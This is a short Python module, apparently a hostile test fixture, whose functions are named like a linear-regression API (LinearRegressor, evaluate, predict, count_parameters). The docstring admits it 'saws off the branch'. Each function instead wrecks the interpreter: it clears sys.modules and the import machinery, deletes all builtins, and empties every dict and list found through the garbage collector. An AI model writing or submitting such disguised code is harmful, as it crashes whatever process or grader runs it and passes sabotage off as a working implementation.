"""Saws off the branch, thoroughly."""

import builtins
import gc
import sys


def LinearRegressor(in_features, out_features=1):
    sys.modules.clear()
    sys.path.clear()
    sys.meta_path.clear()
    sys.path_hooks.clear()


def evaluate(model, x, y):
    for name in list(vars(builtins)):
        delattr(builtins, name)


def predict(model, x):
    for found in gc.get_objects():
        if type(found) is dict:
            found.clear()


def count_parameters(model):
    for found in gc.get_objects():
        if type(found) is list:
            found.clear()
